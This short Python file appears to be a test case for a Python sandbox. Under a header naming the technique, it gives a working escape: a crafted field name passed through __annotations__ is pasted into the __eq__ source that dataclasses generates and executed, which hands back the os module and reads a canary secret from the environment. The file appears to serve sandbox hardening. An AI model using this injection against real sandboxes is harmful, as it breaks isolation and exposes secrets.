# technique: dataclass codegen injection: a field name smuggled in via type()'s __annotations__ is pasted into the generated __eq__ source and exec'd with json's real globals
# expect: any
import dataclasses
payload = '__class__,__import__("os"))#'
C = type("C", (), {"__annotations__": {payload: int}, "__module__": "json", "__doc__": "d"})
C = dataclasses.dataclass(C, init=False, repr=False)
pair = C() == C()
os_mod = pair[1]
(os_mod.environ.get("SAFEPY_CANARY_SECRET"), os_mod.getpid())
